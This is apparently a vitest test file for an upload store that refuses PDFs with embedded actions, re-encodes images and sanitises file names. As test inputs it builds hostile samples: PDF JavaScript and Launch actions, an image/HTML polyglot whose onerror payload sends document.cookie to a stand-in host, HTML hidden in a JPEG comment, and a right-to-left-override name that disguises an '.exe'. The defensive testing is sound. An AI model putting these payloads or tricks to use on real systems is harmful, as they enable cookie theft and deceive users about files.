import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import PDFKit from 'pdfkit';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AppError } from './errors.ts';
import {
  IMAGEM_ILEGIVEL,
  nomeDoArquivo,
  PDF_COM_ACOES,
  PDF_ILEGIVEL,
  PDF_PROTEGIDO,
} from './file-content.ts';
import { FileStore } from './files.ts';

let root: string;
let store: FileStore;

beforeAll(() => {
  root = mkdtempSync(path.join(tmpdir(), 'skyler-conteudo-'));
  store = new FileStore({ root, maxBytes: 5 * 1024 * 1024 });
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

async function recusa(promise: Promise<unknown>): Promise<AppError> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  if (!(error instanceof AppError)) throw new Error(`expected an AppError, got ${String(error)}`);
  return error;
}

const guardado = (key: string) => readFileSync(path.join(root, key));

/** A one-page PDF made by pdf-lib, changed by `montar`, saved with its objects in compressed streams. */
async function pdfCom(
  montar: (doc: PDFDocument) => void | Promise<void>,
  opcoes: { objectStreams?: boolean; senhaDoDono?: string } = {},
): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([200, 200]);
  await montar(doc);
  if (opcoes.senhaDoDono) doc.encrypt({ userPassword: '', ownerPassword: opcoes.senhaDoDono });
  return Buffer.from(await doc.save({ useObjectStreams: opcoes.objectStreams ?? true }));
}

function acao(doc: PDFDocument, valores: Record<string, unknown>) {
  return doc.context.register(doc.context.obj(valores as never));
}

async function pdfkit(opcoes: object): Promise<Buffer> {
  const doc = new PDFKit(opcoes as never);
  const partes: Buffer[] = [];
  doc.on('data', (parte: Buffer) => partes.push(parte));
  doc.text('Comprovante');
  doc.end();
  await new Promise((resolve) => doc.on('end', resolve));
  return Buffer.concat(partes);
}

describe('a PDF is parsed, and refused when it holds an action', () => {
  it('finds a name written with escapes (/J#61vaScript), which a byte search misses', async () => {
    const pdf = Buffer.from(
      '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n' +
        '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n' +
        '3 0 obj << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> endobj\n' +
        'trailer << /Root 1 0 R >>\n%%EOF\n',
      'latin1',
    );
    expect(pdf.toString('latin1')).not.toMatch(/JavaScript/);
    const erro = await recusa(store.save({ data: pdf, nome: 'voucher.pdf', kinds: ['pdf'] }));
    expect([erro.code, erro.message]).toEqual(['unsupported_media_type', PDF_COM_ACOES]);
  });

  it('finds an action inside a compressed object stream', async () => {
    const pdf = await pdfCom((doc) => {
      doc.catalog.set(
        PDFName.of('OpenAction'),
        acao(doc, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
      );
    });
    expect(pdf.toString('latin1')).toContain('/ObjStm');
    expect(pdf.toString('latin1')).not.toMatch(/JavaScript|app\.alert/);
    const erro = await recusa(store.save({ data: pdf, nome: 'voucher.pdf', kinds: ['pdf'] }));
    expect(erro.message).toBe(PDF_COM_ACOES);
  });

  it.each([
    ['a page that launches a program', { S: 'Launch', F: PDFString.of('cmd.exe') }],
    ['a form that sends its data', { S: 'SubmitForm', F: PDFString.of('https://example.com/x') }],
    ['a form that imports data', { S: 'ImportData', F: PDFString.of('dados.fdf') }],
    ['a link that runs a script', { S: 'URI', URI: PDFString.of('javascript:alert(1)') }],
    ['a link to another document', { S: 'GoToR', F: PDFString.of('outro.pdf') }],
  ])('refuses %s', async (_, valores) => {
    const pdf = await pdfCom((doc) => {
      doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: acao(doc, valores) }));
    });
    const erro = await recusa(store.save({ data: pdf, nome: 'voucher.pdf', kinds: ['pdf'] }));
    expect(erro.message).toBe(PDF_COM_ACOES);
  });

  it('refuses a PDF carrying an attached file', async () => {
    const pdf = await pdfCom((doc) =>
      doc.attach(Buffer.from('<html><script>x</script></html>'), 'a.html', { mimeType: 'text/html' }),
    );
    const erro = await recusa(store.save({ data: pdf, nome: 'voucher.pdf', kinds: ['pdf'] }));
    expect(erro.message).toBe(PDF_COM_ACOES);
  });

  it('finds an action in a PDF encrypted with an empty password', async () => {
    const pdf = await pdfCom(
      (doc) => {
        doc.catalog.set(
          PDFName.of('OpenAction'),
          acao(doc, { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
        );
      },
      { senhaDoDono: 'dono' },
    );
    expect(pdf.toString('latin1')).toContain('/Encrypt');
    const erro = await recusa(store.save({ data: pdf, nome: 'voucher.pdf', kinds: ['pdf'] }));
    expect(erro.message).toBe(PDF_COM_ACOES);
  });

  it('refuses a PDF that needs a password to open, and one that cannot be read', async () => {
    const comSenha = await pdfkit({ userPassword: 'abc', ownerPassword: 'dono', pdfVersion: '1.7' });
    const protegido = await recusa(store.save({ data: comSenha, nome: 'a.pdf', kinds: ['pdf'] }));
    expect([protegido.code, protegido.message]).toEqual(['unsupported_media_type', PDF_PROTEGIDO]);
    const quebrado = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n');
    const ilegivel = await recusa(
      store.save({
        data: Buffer.concat([quebrado, Buffer.from('trailer << /Root 1 0 R /Size (')]),
        nome: 'a.pdf',
        kinds: ['pdf'],
      }),
    );
    expect([ilegivel.code, ilegivel.message]).toEqual(['unsupported_media_type', PDF_ILEGIVEL]);
  });

  it('keeps an ordinary PDF as sent: text, links to websites, opening on the first page, no user password', async () => {
    const comLinkEAbertura = await pdfCom((doc) => {
      const pagina = doc.getPage(0);
      doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj([pagina.ref, PDFName.of('Fit')]));
      const link = doc.context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [0, 0, 100, 20],
        A: { S: 'URI', URI: PDFString.of('https://www.example.com/reserva') },
      });
      pagina.node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]));
    });
    for (const pdf of [
      comLinkEAbertura,
      await pdfkit({}),
      await pdfkit({ userPassword: '', ownerPassword: 'dono', pdfVersion: '1.7' }),
    ]) {
      const salvo = await store.save({ data: pdf, nome: 'voucher.pdf', kinds: ['pdf'] });
      expect(salvo.mime).toBe('application/pdf');
      expect(guardado(salvo.key).equals(pdf)).toBe(true);
    }
  });
});

describe('an image is encoded again', () => {
  const HTML = '<img src=x onerror="fetch(\'//x.example/\'+document.cookie)">';

  async function pixels(data: Buffer): Promise<Buffer> {
    return sharp(data).ensureAlpha().raw().toBuffer();
  }

  it.each([
    ['png', 'image/png'],
    ['jpeg', 'image/jpeg'],
    ['webp', 'image/webp'],
    ['gif', 'image/gif'],
  ] as const)('%s: the HTML after its end is dropped, the picture kept', async (formato, mime) => {
    const imagem = await sharp({
      create: { width: 8, height: 8, channels: 3, background: { r: 200, g: 30, b: 30 } },
    })
      .toFormat(formato)
      .toBuffer();
    const poliglota = Buffer.concat([imagem, Buffer.from(HTML)]);
    const salvo = await store.save({ data: poliglota, nome: `foto.${formato}`, kinds: ['imagem'] });
    expect(salvo.mime).toBe(mime);
    const bytes = guardado(salvo.key);
    expect(bytes.toString('latin1')).not.toContain('onerror');
    expect(salvo.size).toBe(bytes.length);
    expect((await sharp(bytes).metadata()).format).toBe(formato);
    expect(await pixels(bytes)).toHaveLength((await pixels(imagem)).length);
  });

  it('drops HTML hidden in a JPEG comment', async () => {
    const jpeg = await sharp({
      create: { width: 8, height: 8, channels: 3, background: { r: 0, g: 0, b: 255 } },
    })
      .jpeg()
      .toBuffer();
    const comentario = Buffer.from(HTML);
    const segmento = Buffer.concat([
      Buffer.from([0xff, 0xfe, (comentario.length + 2) >> 8, (comentario.length + 2) & 0xff]),
      comentario,
    ]);
    const comHtml = Buffer.concat([jpeg.subarray(0, 2), segmento, jpeg.subarray(2)]);
    expect((await sharp(comHtml).metadata()).format).toBe('jpeg');
    const salvo = await store.save({ data: comHtml, nome: 'foto.jpg', kinds: ['imagem'] });
    expect(guardado(salvo.key).toString('latin1')).not.toContain('onerror');
  });

  it('refuses an image cut short', async () => {
    const png = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#123456' } })
      .png()
      .toBuffer();
    const erro = await recusa(store.save({ data: png.subarray(0, 60), nome: 'foto.png', kinds: ['imagem'] }));
    expect([erro.code, erro.message]).toEqual(['unsupported_media_type', IMAGEM_ILEGIVEL]);
  });
});

describe('the name a file is kept under', () => {
  it('ends in the extension of the detected type and holds no direction or control characters', async () => {
    const png = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#000' } })
      .png()
      .toBuffer();
    const rlo = await store.save({ data: png, nome: 'fatura\u202Efdp.exe', kinds: ['imagem'] });
    expect(rlo.nome).toBe('faturafdp.png');
    const outroTipo = await store.save({ data: png, nome: 'C:\\docs\\contrato.pdf', kinds: ['imagem'] });
    expect(outroTipo.nome).toBe('contrato.png');
    expect(nomeDoArquivo('voo\u2067 09.03\u2069\u200B.jpeg', 'jpg')).toBe('voo 09.03.jpg');
    expect(nomeDoArquivo('Reserva 12.03.2026.pdf', 'pdf')).toBe('Reserva 12.03.2026.pdf');
    expect(nomeDoArquivo('linha\r\nnova\u0007.pdf', 'pdf')).toBe('linhanova.pdf');
    expect(nomeDoArquivo('\u202E.', 'pdf')).toBe('arquivo.pdf');
  });
});
